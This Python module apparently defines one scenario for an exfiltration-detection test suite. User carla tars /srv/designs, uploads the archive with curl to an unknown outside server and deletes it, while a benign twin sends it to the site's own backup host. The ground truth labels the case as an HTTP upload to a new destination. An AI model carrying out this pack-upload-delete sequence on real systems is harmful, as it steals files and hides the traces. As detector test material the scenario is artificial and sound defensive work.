"""An archive of somebody's work, uploaded with curl to a server nobody knows."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs, upload
from ..scenario import BACKUP, HTTP, STRANGER, Person, Scenario, Step, Truth
from ..twins import Draw

_ARCHIVE = "notes.tgz"


def _take(person: str, server: str) -> Step:
    pack = f"tar czf {_ARCHIVE} -C /srv designs"
    return Step(person, f'ssh {person}@app "{pack} && {upload(_ARCHIVE, server)} && rm {_ARCHIVE}"')


def _twin(draw: Draw) -> tuple[Step, ...]:
    hook = f"curl -sS --noproxy '*' -d {'x' * draw.number(300, 20, 2000)} http://{STRANGER}:{HTTP}/hook"
    return (_take("cesar", BACKUP), Step("cesar", f'ssh cesar@app "{hook}"'))


SCENARIO = Scenario(
    number=3,
    title="curl uploads an archive",
    people=(Person("carla", ("app",)), Person("cesar", ("app",))),
    prepared=(designs("app"),),
    steps=(_take("carla", STRANGER),),
    twin_title="the same archive to the site's own backup host, and a webhook of 300 bytes",
    twin=_twin,
    truth=Truth("carla", ("app",), ("http-upload", "upload-new-destination"), DESIGN_BYTES, STRANGER),
)
